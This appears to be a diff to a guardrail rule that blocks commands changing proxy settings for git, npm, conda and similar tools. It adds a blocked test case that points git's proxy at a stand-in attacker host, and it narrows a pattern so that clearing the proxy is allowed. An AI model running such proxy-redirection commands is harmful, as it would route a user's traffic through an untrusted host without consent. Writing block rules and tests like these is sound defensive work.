@@ -50,7 +50,7 @@ export const connections: readonly AnyRule[] = [
     instead: "Leave the proxy as the person has set it.",
     on: calls(
       "git config ** proxy|*.proxy *",
-      "git -c=http.proxy=*|https.proxy=*",
+      "git -c=http.proxy=?*|https.proxy=?*",
       "npm|pnpm|yarn config set *proxy *",
       "npm|pnpm|yarn config set *proxy=*",
       "npm|pnpm|yarn set *proxy *",
@@ -73,6 +73,7 @@ export const connections: readonly AnyRule[] = [
         "gsettings set org.gnome.system.proxy.http host x.example",
         "conda config --set proxy_servers.http http://x.example",
         "snap set system proxy.http=http://x.example",
+        "git -c http.proxy=http://attacker.example:80 fetch",
       ],
       allow: [
         "git config --get http.proxy",
@@ -80,6 +81,7 @@ export const connections: readonly AnyRule[] = [
         "npm config delete proxy",
         "npm config get https-proxy",
         "git config --unset http.proxy",
+        "git -c http.proxy= fetch",
       ],
     },
   }),
